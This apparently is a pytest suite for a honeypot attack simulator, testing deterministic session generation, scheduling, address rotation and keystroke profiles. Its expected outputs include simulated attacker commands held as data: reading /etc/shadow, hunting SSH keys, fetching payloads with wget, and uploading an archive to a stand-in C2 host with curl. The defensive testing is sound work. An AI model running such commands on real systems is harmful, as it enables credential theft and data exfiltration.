"""Generation: deterministic by seed, and every scheduling rule of the language honoured."""

from __future__ import annotations

import ipaddress
import random
from collections import defaultdict
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from node.errors import ScenarioError
from node.profile.transcripts import InputChunk, keystroke_profile
from node.simulate.addresses import BENCHMARK_NETWORK
from node.simulate.generate import BASE_TIME, HONEYPOTS, Simulation, generate
from node.simulate.render import render_lines
from node.simulate.scenario import Scenario, load_scenario, parse_scenario
from node.simulate.schedule import DAY_S, HOUR_S, ActiveHours
from node.simulate.session import Session
from node.simulate.signals import payload_sha256
from tests.scenarios import SCENARIO_NAMES, shared_scenario

DAY_US = 86_400_000_000
HOUR_US = 3_600_000_000
BASE_US = int(BASE_TIME.timestamp()) * 1_000_000


def scenario_of(document: dict[str, Any]) -> Scenario:
    return parse_scenario(yaml.safe_dump(document), "test")


def one_campaign(actors: list[dict[str, Any]], phases: list[dict[str, Any]],
                 **extra: Any) -> Scenario:
    return scenario_of({"campaign": {"id": "c", "actors": actors, "phases": phases, **extra}})


def day_and_hour(session: Session, base_us: int = BASE_US) -> tuple[int, int]:
    offset = session.start_us - base_us
    return offset // DAY_US, offset % DAY_US // HOUR_US


def end_us(session: Session) -> int:
    return session.start_us + int(session.duration_s * 1_000_000)


@pytest.mark.parametrize("name", SCENARIO_NAMES)
def test_every_shared_scenario_simulates_the_same_way_for_the_same_seed(name: str) -> None:
    scenario = load_scenario(shared_scenario(name))

    first, again = generate(scenario, 11), generate(scenario, 11)

    assert first == again
    assert render_lines(first) == render_lines(again)
    assert first.sessions
    assert generate(scenario, 12).sessions != first.sessions


def test_vpn_hopping_rotates_round_robin_over_five_addresses_and_asns() -> None:
    simulation = generate(load_scenario(shared_scenario("vpn_hopping")), 3)

    sessions = simulation.sessions
    assert len(sessions) == 15
    ips = [s.ip for s in sessions]
    assert len(set(ips)) == 5
    assert ips == [ips[k % 5] for k in range(15)]
    assert [s.asn for s in sessions] == [64512 + k % 5 for k in range(15)]


def test_rotation_cycles_in_emission_order_across_phases() -> None:
    scenario = one_campaign(
        [{"id": "a", "ip_pool": "rotating", "rotation_count": 3, "rotation_asns": [7, 8]}],
        [{"name": "delivery", "target_selector": {"count": 4}},
         {"name": "discovery", "target_selector": {"count": 3}}])

    sessions = generate(scenario, 5).sessions

    ips = [s.ip for s in sessions]
    assert ips == [ips[0], ips[1], ips[2]] * 2 + [ips[0]]
    assert len(set(ips)) == 3
    assert [s.asn for s in sessions] == [7, 8, 7, 7, 8, 7, 7]  # address k has ASN [7, 8][k % 2]


@given(seed=st.integers(0, 2**32),
       hours=st.lists(st.integers(0, 23), min_size=1, max_size=5, unique=True),
       duration=st.integers(2, 6), pause=st.integers(0, 5), count=st.integers(1, 12),
       jitter=st.integers(0, 3600))
def test_sessions_start_only_in_active_hours_and_never_on_paused_days(
        seed: int, hours: list[int], duration: int, pause: int, count: int,
        jitter: int) -> None:
    pause_day = pause % duration
    scenario = one_campaign(
        [{"id": "a", "hours_active_utc": hours, "jitter_seconds": jitter}],
        [{"name": "delivery", "target_selector": {"count": count}},
         {"name": "discovery", "target_selector": {"count": count}, "dwell_seconds": 30}],
        duration_days=duration, pause_windows=[[pause_day, pause_day]])

    sessions = generate(scenario, seed).sessions

    assert len(sessions) == 2 * count
    for session in sessions:
        day, hour = day_and_hour(session)
        assert hour in hours
        assert day != pause_day
        assert 0 <= day < duration


def test_phases_run_in_declaration_order_one_session_after_another() -> None:
    scenario = one_campaign(
        [{"id": "a", "hours_active_utc": [9, 10]}, {"id": "b", "hours_active_utc": [20]}],
        [{"name": "delivery", "actor": "b", "target_selector": {"count": 3}},
         {"name": "exploitation", "actor": "a", "target_selector": {"count": 3}},
         {"name": "discovery", "actor": "b", "target_selector": {"count": 3}}],
        duration_days=4)

    sessions = generate(scenario, 9).sessions

    assert [s.phase for s in sessions] == ["delivery"] * 3 + ["exploitation"] * 3 + \
        ["discovery"] * 3
    for earlier, later in zip(sessions, sessions[1:], strict=False):
        assert end_us(earlier) < later.start_us


def test_active_days_and_start_day_are_respected() -> None:
    scenario = one_campaign(
        [{"id": "a", "active_days": [1, 3, 4], "start_day": 3}],
        [{"name": "delivery", "target_selector": {"count": 20}}], duration_days=5)

    days = {day_and_hour(s)[0] for s in generate(scenario, 4).sessions}

    assert days <= {3, 4}


def test_an_actor_with_no_hour_left_for_its_phase_is_a_clear_error() -> None:
    scenario = one_campaign(
        [{"id": "a", "active_days": [1]}, {"id": "b", "active_days": [0]}],
        [{"name": "delivery", "actor": "a"}, {"name": "discovery", "actor": "b"}],
        duration_days=2)

    with pytest.raises(ScenarioError, match=r"^campaign\.phases\[1\]: actor 'b' has no active"
                                            r" hour left"):
        generate(scenario, 1)


def test_previous_success_returns_to_the_foothold_and_hands_it_over() -> None:
    scenario = one_campaign(
        [{"id": "broker"}, {"id": "operator"}],
        [{"name": "delivery", "actor": "broker", "target_selector": {"count": 3}},
         {"name": "exploitation", "actor": "broker", "target_selector": {"count": 2}},
         {"name": "persistence", "actor": "broker",
          "target_selector": {"decky": "previous_success", "count": 2}},
         {"name": "discovery", "actor": "operator",
          "target_selector": {"decky": "previous_success", "count": 3}}])

    for seed in range(20):
        sessions = generate(scenario, seed).sessions
        exploited = [s for s in sessions if s.phase == "exploitation"][-1].honeypot
        later = [s for s in sessions if s.phase in ("persistence", "discovery")]
        assert {s.honeypot for s in later} == {exploited}
        assert all(s.honeypot in HONEYPOTS for s in sessions)


def test_previous_success_without_any_foothold_picks_a_honeypot() -> None:
    scenario = one_campaign([{"id": "a"}], [
        {"name": "discovery", "target_selector": {"decky": "previous_success", "count": 30}}])

    honeypots = {s.honeypot for s in generate(scenario, 2).sessions}

    assert honeypots <= set(HONEYPOTS)
    assert len(honeypots) > 1


def test_noise_scanners_are_short_bare_delivery_sessions_each_its_own_truth() -> None:
    simulation = generate(load_scenario(shared_scenario("lone_wolf")), 8)

    scanners = [s for s in simulation.sessions if s.campaign != "lone-wolf-001"]
    assert len(scanners) == 8
    assert len({s.ip for s in scanners}) == 8
    assert len({s.identity for s in scanners}) == 8
    for s in scanners:
        assert s.identity == s.campaign
        assert s.phase == "delivery"
        assert (s.ja3, s.hassh, s.logins, s.commands, s.downloads) == (None, None, (), (), ())
        assert s.recording is None and s.ipv6_leak is None and s.proxy is None
        assert s.duration_s <= 1
        assert s.asn != 14061 and 1 <= s.asn <= 64495


def test_addresses_are_distinct_benchmark_hosts_per_actor_slot_and_scanner() -> None:
    document = {"corpus": {"campaigns": [
        {"campaign": {"id": f"c{i}", "actors": [{"id": f"a{i}", "ip_pool": "rotating",
                                                 "rotation_count": 4}],
                      "phases": [{"name": "delivery", "target_selector": {"count": 4}}]}}
        for i in range(3)], "noise": {"scanner_count": 10}}}

    simulation = generate(scenario_of(document), 6)

    owners: dict[str, set[str]] = defaultdict(set)
    for session in simulation.sessions:
        owners[session.ip].add(session.identity)
        address = ipaddress.ip_address(session.ip)
        assert address in BENCHMARK_NETWORK
        assert session.ip.rsplit(".", 1)[1] not in ("0", "255")
    assert all(len(identities) == 1 for identities in owners.values())
    assert len(owners) == 3 * 4 + 10


def test_the_base_date_moves_every_session_and_nothing_else() -> None:
    scenario = load_scenario(shared_scenario("multi_operator"))
    later = BASE_TIME + timedelta(days=10)

    moved = generate(scenario, 1, later)
    original = generate(scenario, 1)

    shift = 10 * DAY_US
    assert [s.start_us - shift for s in moved.sessions] == [s.start_us for s in original.sessions]
    with pytest.raises(ValueError, match="time zone"):
        generate(scenario, 1, datetime(2026, 3, 2))  # noqa: DTZ001
    assert datetime.fromtimestamp(original.sessions[0].start_us / 1e6, UTC).date() >= \
        BASE_TIME.date()


def test_phases_type_the_readme_defaults_and_their_tool_signature() -> None:
    scenario = one_campaign([{"id": "a"}], [
        {"name": "delivery"},
        {"name": "discovery"},
        {"name": "credential_access"},
        {"name": "exploitation",
         "tool_signature": {"payload_hash": "stage1", "c2_callback": "203.0.113.80"}},
        {"name": "persistence", "tool_signature": {"commands": ["echo hi"],
                                                   "credentials": [["root", "x"], ["u", "p"]]}},
        {"name": "exfiltration", "tool_signature": {"c2_callback": "c2.evil.test"}},
    ])

    by_phase = {s.phase: s for s in generate(scenario, 1).sessions}

    assert by_phase["delivery"].commands == () and by_phase["delivery"].logins == ()
    assert [c.text for c in by_phase["discovery"].commands] == \
        ["whoami", "id", "uname -a", "ip route", "arp -a", "cat /etc/passwd"]
    assert [c.text for c in by_phase["credential_access"].commands] == \
        ["cat /etc/shadow", "find / -name id_rsa"]
    exploit = by_phase["exploitation"]
    sha = payload_sha256("stage1")
    assert [c.text for c in exploit.commands] == [
        f"wget http://203.0.113.80/{sha[:8]}", "curl -fsS http://203.0.113.80/beacon"]
    assert [(d.sha256, d.url) for d in exploit.downloads] == \
        [(sha, f"http://203.0.113.80/{sha[:8]}")]
    persistence = by_phase["persistence"]
    assert [c.text for c in persistence.commands] == ["echo hi"]
    assert [(lg.username, lg.password, lg.success) for lg in persistence.logins] == \
        [("root", "x", False), ("u", "p", True)]
    assert [c.text for c in by_phase["exfiltration"].commands] == [
        "curl -T /tmp/.d.tgz http://c2.evil.test/up", "curl -fsS http://c2.evil.test/beacon"]


def test_a_brute_force_without_commands_fails_every_login() -> None:
    simulation = generate(load_scenario(shared_scenario("shared_wordlist")), 2)

    brute = [s for s in simulation.sessions if s.phase == "credential_access"]
    assert len(brute) == 6
    for session in brute:
        assert len(session.logins) == 8
        assert not any(login.success for login in session.logins)
        assert session.commands == ()


def test_session_events_stay_inside_the_dwell() -> None:
    scenario = one_campaign([{"id": "a"}], [
        {"name": "discovery", "dwell_seconds": 7, "direct_tcpip": "198.51.100.9:25",
         "tool_signature": {"payload_hash": "p", "credentials": [["a", "b"]]}}])

    (session,) = generate(scenario, 1).sessions

    assert session.commands[0].text.startswith("wget ") and len(session.downloads) == 1
    # Emission order: logins, the payload's wget and its download, the other commands, proxy.
    offsets = [lg.offset_s for lg in session.logins] + [session.commands[0].offset_s] + \
        [session.downloads[0].offset_s] + [c.offset_s for c in session.commands[1:]]
    assert session.proxy is not None
    offsets.append(session.proxy.offset_s)
    assert offsets == sorted(offsets)
    assert 0 < min(offsets) and max(offsets) < session.duration_s == 7


def keystroke_simhash(session: Session) -> int:
    assert session.recording is not None
    chunks = [InputChunk(c.t, c.data) for c in session.recording.chunks if c.channel == "i"]
    return keystroke_profile(chunks).simhash


def test_a_typist_has_the_same_keystroke_simhash_whenever_typing_the_same_commands() -> None:
    scenario = one_campaign(
        [{"id": "alice", "keystroke_profile": "alice"}, {"id": "bob", "keystroke_profile": 7}],
        [{"name": "discovery", "actor": "alice", "target_selector": {"count": 3}},
         {"name": "discovery", "actor": "bob", "target_selector": {"count": 3}},
         {"name": "delivery", "actor": "bob"}])

    for seed in range(5):
        sessions = generate(scenario, seed).sessions
        alice = {keystroke_simhash(s) for s in sessions if s.identity == "alice"}
        bob = {keystroke_simhash(s) for s in sessions if s.identity == "bob"
               and s.phase == "discovery"}
        assert len(alice) == 1 and len(bob) == 1
        assert alice != bob and 0 not in alice | bob
        silent = [s for s in sessions if s.phase == "delivery"]
        assert silent[0].recording is None  # nothing typed, nothing recorded


def test_commands_of_a_typed_session_are_entered_in_order() -> None:
    scenario = one_campaign([{"id": "a", "keystroke_profile": 1}], [
        {"name": "discovery", "dwell_seconds": 1, "tool_signature": {"payload_hash": "x"}}])

    (session,) = generate(scenario, 3).sessions

    assert session.recording is not None
    typed = "".join(c.data for c in session.recording.chunks if c.channel == "i")
    assert typed == "".join(c.text + "\r" for c in session.commands)
    assert session.duration_s > 1  # typing took longer than the dwell: the session lasts
    times = [c.offset_s for c in session.commands]
    assert times == sorted(times)
    assert session.downloads[0].offset_s > session.commands[0].offset_s


def test_too_many_sessions_is_refused_before_any_work() -> None:
    document = {"corpus": {"campaigns": [
        {"campaign": {"id": f"c{i}", "actors": [{"id": f"a{i}"}],
                      "phases": [{"name": "delivery", "target_selector": {"count": 10_000}}]}}
        for i in range(21)]}}

    with pytest.raises(ScenarioError, match="asks for 210,000 sessions"):
        generate(scenario_of(document), 1)


def test_a_simulation_names_its_scenario_and_seed() -> None:
    simulation = generate(one_campaign([{"id": "a"}], [{"name": "delivery"}]), 77)

    assert isinstance(simulation, Simulation)
    assert (simulation.scenario, simulation.seed) == ("test", 77)


@given(days=st.sets(st.integers(0, 9), max_size=5), hours=st.sets(st.integers(0, 23),
                                                                  max_size=6),
       moment=st.floats(-7200, 11 * 86_400, allow_nan=False), seed=st.integers(0, 99))
def test_a_start_is_in_the_first_active_hour_not_yet_over(days: set[int], hours: set[int],
                                                           moment: float, seed: int) -> None:
    slots = sorted(d * DAY_S + h * HOUR_S for d in days for h in hours)
    first = next((s for s in slots if s + HOUR_S > moment), None)

    start = ActiveHours(days, hours).start_at_or_after(moment, random.Random(seed),
                                                       jitter_s=600, entry_s=3000)

    if first is None:
        assert start is None
    else:
        assert start is not None
        assert first <= start < first + HOUR_S
        assert start >= min(moment, first + HOUR_S - 0.001)


def test_a_small_file_that_would_type_gigabytes_is_refused() -> None:
    from node.errors import ScenarioError
    from node.simulate.scenario import parse_scenario
    aliases = ", ".join(["*long"] * 999)  # a few kB of file, 4 MB of typing per session
    text = ("campaign:\n  id: c\n  actors:\n    - id: a\n  phases:\n    - name: discovery\n"
            f"      tool_signature:\n        commands: [&long \"{'x' * 4000}\", {aliases}]\n"
            "      target_selector: { count: 10000 }\n")
    with pytest.raises(ScenarioError, match="would type"):
        generate(parse_scenario(text, "alias"), 1)
